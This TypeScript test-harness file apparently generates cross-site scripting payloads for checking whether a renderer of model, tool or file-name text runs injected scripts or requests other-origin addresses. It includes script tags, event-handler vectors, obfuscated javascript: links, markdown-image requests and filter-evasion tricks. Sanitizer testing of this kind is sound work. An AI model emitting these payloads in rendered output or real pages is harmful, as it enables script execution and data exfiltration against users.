/** What hostile text may hold, and what a page that trusts it makes of it. */
export interface Payload {
  name: string;
  /** As a model, a tool, a file name or a title says it. */
  text: string;
  /** The HTML that a trusting renderer makes of the text. */
  html: string;
  /** Runs only where scripts that are put into the page by a script run. */
  isScript?: boolean;
}

/** Any element may have a handler of any event: which of them a filter forgets is what attackers look for. */
const ELEMENTS = ["p", "span", "a", "b", "table", "form", "button", "textarea", "select", "svg", "math", "x-made-up"];
const EVENTS = [
  ...["onclick", "ondblclick", "onmouseenter", "onwheel", "oncopy", "onpaste", "oncut", "onkeydown", "onkeyup"],
  ...["oninput", "onfocusin", "ontouchstart", "onanimationstart", "onauxclick", "onpointerover", "ondrag"],
];

/**
 * Payloads by id, and which of them are tried as one. `run` is what tells of an execution, `url` an address of another
 * origin whose being asked for tells of a request.
 */
export function makePayloads(run: (id: string) => string, url: (id: string) => string) {
  const payloads = new Map<string, Payload>();
  const groups = new Map<string, string[]>();
  const add = (name: string, make: (code: string, address: string) => string, more: Partial<Payload> = {}): void => {
    const id = `p${payloads.size}`;
    const html = make(run(id), url(id));
    const payload = { name, text: more.text ?? html, html, ...more };
    payloads.set(id, payload);
  };
  const addLink = (name: string, scheme: string): void => {
    const id = `p${payloads.size}`;
    const address = `${scheme}${run(id)}`;
    const text = `[click](<${address}>)`;
    const payload = { name, text, html: `<a href="${address.replaceAll("\t", "&Tab;")}">click</a>` };
    payloads.set(id, payload);
  };
  const addPicture = (name: string, write: (address: string) => string): void => {
    const id = `p${payloads.size}`;
    const payload = { name, text: write(url(id)), html: `<img src="${url(id)}">` };
    payloads.set(id, payload);
  };

  add("a script", (code) => `<script>${code}</script>`, { isScript: true });
  add("a script in capitals", (code) => `<ScRiPt >${code}</sCrIpT>`, { isScript: true });
  add("a script from elsewhere", (_code, address) => `<script src="${address}"></script>`, { isScript: true });
  add("a module from elsewhere", (_code, address) => `<script type="module" src="${address}"></script>`, {
    isScript: true,
  });
  for (const [element, event] of [
    ['img src="x"', "onerror"],
    ['img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"', "onload"],
    ["details open", "ontoggle"],
    ["input autofocus", "onfocus"],
    ['video src="x"', "onerror"],
    ['audio src="x"', "onerror"],
    ["iframe", "onload"],
    ["style", "onload"],
    ["div", "onclick"],
    ["div", "onmouseover"],
    ["button", "onpointerdown"],
  ] as const) {
    add(`${event} of <${element}>`, (code) => `<${element} ${event}="${code}">x</${element.split(" ")[0]}>`);
  }
  for (const event of EVENTS) {
    const ids = ELEMENTS.map((element) => {
      add(`${event} of <${element}>`, (code) => `<${element} ${event}="${code}">x</${element}>`);
      return `p${payloads.size - 1}`;
    });
    groups.set(`${event} of ${ELEMENTS.length} elements`, ids);
  }
  add("an image without quotes", (code) => `<img src=x onerror=${code}>`);
  add("a handler of a formula", (code) => `<math><mtext onclick="${code}">x</mtext></math>`);
  add("a document in a frame", (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`);
  add("a button's script", (code) => `<form><button formaction="javascript:${code}">x</button></form>`);
  add("a drawing's link", (code) => `<svg><a href="javascript:${code}"><text x="9" y="9">x</text></a></svg>`);
  for (const scheme of ["javascript:", "JaVaScRiPt:", "java\tscript:", "javascript://%0a", " javascript:"]) {
    addLink(`a link to ${JSON.stringify(scheme)}`, scheme);
  }
  addPicture("a picture", (address) => `![x](${address})`);
  addPicture("a picture by reference", (address) => `![x][ref]\n\n[ref]: ${address}`);
  addPicture("a picture in a link", (address) => `[![x](${address})](https://example.org)`);
  addPicture("a picture in a table", (address) => `| a |\n|---|\n| ![x](${address}) |`);
  addPicture("a picture in a footnote", (address) => `a[^1]\n\n[^1]: ![x](${address})`);
  add("an image's set of sources", (_code, address) => `<img srcset="${address} 1x">`);
  add("a frame from elsewhere", (_code, address) => `<iframe src="${address}"></iframe>`);
  add("an object from elsewhere", (_code, address) => `<object data="${address}"></object>`);
  add("an embedded page", (_code, address) => `<embed src="${address}">`);
  add("a style sheet from elsewhere", (_code, address) => `<link rel="stylesheet" href="${address}">`);
  add("an import of a style sheet", (_code, address) => `<style>@import url("${address}");</style>`);
  add("a background", (_code, address) => `<div style="background:url(${address});width:9px;height:9px">x</div>`);
  add("a film", (_code, address) => `<video src="${address}" preload="auto"></video>`);
  add("a film's poster", (_code, address) => `<video poster="${address}"></video>`);
  add("a sound", (_code, address) => `<audio src="${address}" preload="auto"></audio>`);
  add(
    "a drawing's image",
    (_code, address) => `<svg width="9" height="9"><image href="${address}" width="9" height="9"/></svg>`,
  );
  add("an input's image", (_code, address) => `<input type="image" src="${address}">`);
  for (const [name, wrap] of [
    ["a terminal's link", (address: string) => `\u001b]8;;${address}\u0007x\u001b]8;;\u0007`],
    ["a terminal's device string", (address: string) => `\u001bP+q<img src="${address}">\u001b\\`],
    ["a terminal's colours around a tag", (address: string) => `\u001b[31m<img src="${address}">\u001b[0m`],
    ["text that runs from right to left", (address: string) => `\u202e<img src="${address}">\u202c`],
    ["a zero-width joiner in a tag", (address: string) => `<i\u200dmg><img src="${address}">`],
    ["an entity for a bracket", (address: string) => `&lt;img src="x"&gt;<img src="${address}">`],
    ["a fence that is never closed", (address: string) => "```html\n" + `<img src="${address}">`],
    ["a comment that is closed early", (address: string) => `<!--><img src="${address}">-->`],
  ] as const) {
    addPicture(name, wrap);
  }
  const grouped = new Set([...groups.values()].flat());
  for (const [id, { name }] of payloads) if (!grouped.has(id)) groups.set(name, [id]);
  return { payloads, groups };
}
